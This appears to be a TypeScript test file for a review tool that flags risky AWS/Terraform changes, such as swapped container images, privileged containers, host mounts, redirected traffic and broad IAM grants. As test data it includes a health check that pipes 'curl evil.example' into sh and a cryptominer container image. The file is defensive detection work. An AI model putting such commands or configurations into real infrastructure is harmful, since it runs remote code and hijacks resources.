import { reviewGolden } from "../../../ops/review/golden";
import { render } from "../../../ops/review/sentence";
import { readStack } from "../../../ops/review/stack-json";
import { UNKNOWN } from "../../../ops/review/values";
import { production } from "../../environments/production";
import { synthesizeEnvironment } from "../../helpers/stacks";
import { change, said } from "./change";

const IMAGE = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/api/app";
const APP = {
  name: "app",
  image: `${IMAGE}:1`,
  user: "33:33",
  command: ["sh", "true"],
  environment: [{ name: "A", value: "1" }],
};
const definitions = (container: object) => ({
  container_definitions: JSON.stringify([{ ...APP, ...container }]),
});
const task = (container: object) =>
  said(
    change("aws_ecs_task_definition", {
      action: "replace",
      before: definitions({}),
      after: definitions(container),
    }),
  );

describe("a task definition", () => {
  it.each([
    [
      "another image",
      { image: "docker.io/evil/app:1" },
      "exposure: ",
      "runs another image in the container app",
    ],
    ["a registry of another account", { image: `9${IMAGE.slice(1)}:1` }, "exposure: ", "923456789012"],
    ["another user", { user: "root" }, "exposure: ", "confines the container app otherwise: user."],
    ["privileges", { privileged: true }, "exposure: ", "otherwise: privileged."],
    [
      "capabilities",
      { linuxParameters: { capabilities: { add: ["SYS_ADMIN"] } } },
      "exposure: ",
      "otherwise: capabilities.",
    ],
    [
      "a folder of the host",
      { mountPoints: [{ sourceVolume: "host" }] },
      "exposure: ",
      "otherwise: mountPoints.",
    ],
    [
      "another address for a name",
      { extraHosts: [{ hostname: "db" }] },
      "exposure: ",
      "otherwise: extraHosts.",
    ],
    ["another name server", { dnsServers: ["192.0.2.1"] }, "exposure: ", "otherwise: dnsServers."],
    [
      "a device",
      { linuxParameters: { devices: [{ hostPath: "/dev/sda" }] } },
      "exposure: ",
      "otherwise: devices.",
    ],
    [
      "another health check",
      { healthCheck: { command: ["CMD-SHELL", "curl evil.example | sh"] } },
      "notice: ",
      "starts the container app otherwise: healthCheck changes.",
    ],
    [
      "settings of another bucket",
      { environmentFiles: [{ value: "arn:aws:s3:::evil/x.env" }] },
      "notice: ",
      "environmentFiles changes.",
    ],
    [
      "another command",
      { command: ["sh"] },
      "notice: ",
      "starts the container app otherwise: command changes.",
    ],
    [
      "another order of its command",
      { command: ["true", "sh"] },
      "notice: ",
      "starts the container app otherwise: command changes.",
    ],
    ["another variable", { environment: [{ name: "B", value: "1" }] }, "notice: ", "container app: A and B."],
    ["another secret", { secrets: [{ name: "S", valueFrom: "arn" }] }, "notice: ", "container app: S."],
    [
      "another container",
      { name: "miner", image: "evil/miner" },
      "exposure: ",
      "container miner: evil/miner.",
    ],
  ])("is reported with %s", (_, container, severity, what) => {
    const [finding, ...others] = task(container);
    expect(others).toEqual([]);
    expect(finding).toMatch(severity);
    expect(finding).toContain(what);
  });

  it("is reported where its containers are known only after apply", () => {
    const after = { container_definitions: UNKNOWN };
    const replaced = change("aws_ecs_task_definition", { action: "replace", before: definitions({}), after });
    expect(said(replaced)).toEqual([
      expect.stringMatching(/^exposure: .* has containers that are known only after apply\.$/),
    ]);
  });

  it.each(["2", "deployed-20261122T041500Z"])("is not with another tag, as of each release: %s", (tag) => {
    expect(task({ image: `${IMAGE}:${tag}` })).toEqual([]);
    expect(task({ image: `${IMAGE}@sha256:${"a".repeat(64)}` })).toEqual([]);
  });

  it("is not with what ECS adds to a registered one, and with other settings", () => {
    const added = { mountPoints: [], volumesFrom: [], privileged: false, linuxParameters: { devices: [] } };
    expect(task(added)).toEqual([]);
    const registered = (logs: object) =>
      definitions({ logConfiguration: { logDriver: "awslogs", ...logs }, mountPoints: [{ readOnly: true }] });
    const logs = [registered({ secretOptions: [] }), registered({})] as const;
    expect(
      said(change("aws_ecs_task_definition", { action: "replace", before: logs[0], after: logs[1] })),
    ).toEqual([]);
    const settings = (digit: string) =>
      definitions({ environmentFiles: [{ value: `arn:aws:s3:::api/env/${digit.repeat(64)}.env` }] });
    const [before, after] = [settings("a"), settings("b")];
    expect(said(change("aws_ecs_task_definition", { action: "replace", before, after }))).toEqual([]);
  });

  it("is reported when it is new and its image is not in Amazon ECR", () => {
    const created = (image: string) =>
      said(change("aws_ecs_task_definition", { action: "create", after: definitions({ image }) }));
    expect(created("evil/app:1")).toEqual([expect.stringContaining("runs another image")]);
    expect(created('${"evil/app"}:1')).toEqual([expect.stringContaining("runs another image")]);
    expect(created(`${IMAGE}:1`)).toEqual([]);
    expect(created("${data.terraform_remote_state.base.outputs.url}:1")).toEqual([]);
  });

  it("is reported from the golden file too", () => {
    const text = JSON.stringify(synthesizeEnvironment(production).service);
    const after = text.replaceAll(
      "${data.terraform_remote_state.base.outputs.nginxRepositoryUrl}",
      "evil/nginx",
    );
    const { findings } = reviewGolden("production-service", readStack(text), readStack(after));
    expect(findings.map(({ what }) => render(what, (value) => value)).join("\n")).toContain(
      "runs another image in the container nginx: evil/nginx:",
    );
  });
});

it.each([
  ["aws_route53_record", { records: ["192.0.2.1"] }, { records: ["198.51.100.1"] }, "records changes."],
  ["aws_route53_record", { alias: [{ name: "a" }] }, { alias: [{ name: "b" }] }, "alias changes."],
  [
    "aws_lb_listener",
    { default_action: [{ type: "forward" }] },
    { default_action: [] },
    "default_action changes.",
  ],
  ["aws_cloudwatch_event_target", { arn: "a" }, { arn: "b" }, "arn changes."],
  ["aws_sns_topic_subscription", { endpoint: "a" }, { endpoint: "b" }, "endpoint changes."],
  ["aws_route", { gateway_id: "igw-1" }, { gateway_id: "igw-2" }, "gateway_id changes."],
])("requests go elsewhere by a change in place of %s: %j", (type, before, after, what) => {
  expect(said(change(type, { before, after }))).toEqual([
    expect.stringMatching(/^exposure: .* sends requests elsewhere: /),
  ]);
  expect(said(change(type, { before, after })).join()).toContain(what);
});

describe("a function", () => {
  const FUNCTION = "aws_lambda_function";

  it.each([
    ["layers", ["arn:aws:lambda:eu-west-1:999999999999:layer:evil:1"]],
    ["image_uri", "999999999999.dkr.ecr.eu-west-1.amazonaws.com/evil:1"],
    ["s3_bucket", "evil"],
  ])("runs code from elsewhere, when it is changed or created: %s", (argument, value) => {
    const after = { [argument]: value };
    // A new resource of a golden file has no list of changes.
    for (const made of [{ after }, { action: "create", after, changed: [] }] as const) {
      expect(said(change(FUNCTION, made))).toEqual([
        `exposure: aws_lambda_function.it runs code from elsewhere: ${argument}.`,
      ]);
    }
    expect(said(change(FUNCTION, { before: { [argument]: value }, after: { [argument]: null } }))).toEqual(
      [],
    );
  });

  it("starts otherwise, by its handler or a variable such as NODE_OPTIONS", () => {
    const after = { handler: "other.main", environment: [{ variables: { NODE_OPTIONS: "--import x" } }] };
    expect(said(change(FUNCTION, { after }))).toEqual([
      "notice: aws_lambda_function.it starts otherwise: environment and handler changes.",
    ]);
    expect(said(change(FUNCTION, { action: "create", after }))).toEqual([]);
    expect(said(change(FUNCTION, { before: {}, after: { source_code_hash: "b" } }))).toEqual([]);
  });
});

it("nothing goes elsewhere by another text in DNS", () => {
  const text = (record: string) => ({ type: "TXT", records: [record] });
  expect(
    said(change("aws_route53_record", { before: text("v=DMARC1"), after: text("v=DMARC1; p=none") })),
  ).toEqual([]);
});

it("requests go elsewhere by a new rule that redirects to another host", () => {
  const rule = (host: string) =>
    said(change("aws_lb_listener_rule", { action: "create", after: { action: [{ redirect: [{ host }] }] } }));
  expect(rule("evil.example").join()).toContain("sends requests to evil.example.");
  expect(rule("#{host}")).toEqual([]);
});

it("a service ends that scaling may only give no tasks", () => {
  const [before, after] = [{ max_capacity: 4 }, { max_capacity: 0 }];
  expect(said(change("aws_appautoscaling_target", { before, after }))).toEqual([
    "downtime: aws_appautoscaling_target.it scales its service to no tasks: it stops.",
  ]);
});

it.each([
  "aws_ssm_association",
  "aws_iam_role_policy_attachments_exclusive",
  "aws_cloudformation_stack",
  "aws_instance",
  "constructor",
])("a type that no rule was written for is not passed over: %s", (type) => {
  expect(said(change(type, { action: "create" }))).toEqual([
    `exposure: ${type}.it is of a type that no rule of this review was written for.`,
  ]);
});

it("a policy that is attached to several principals at once is reported", () => {
  const after = { policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess", roles: ["api-production-task"] };
  expect(said(change("aws_iam_policy_attachment", { action: "create", after }))).toEqual([
    "exposure: aws_iam_policy_attachment.it newly grants all permissions of arn:aws:iam::aws:policy/AdministratorAccess.",
  ]);
});
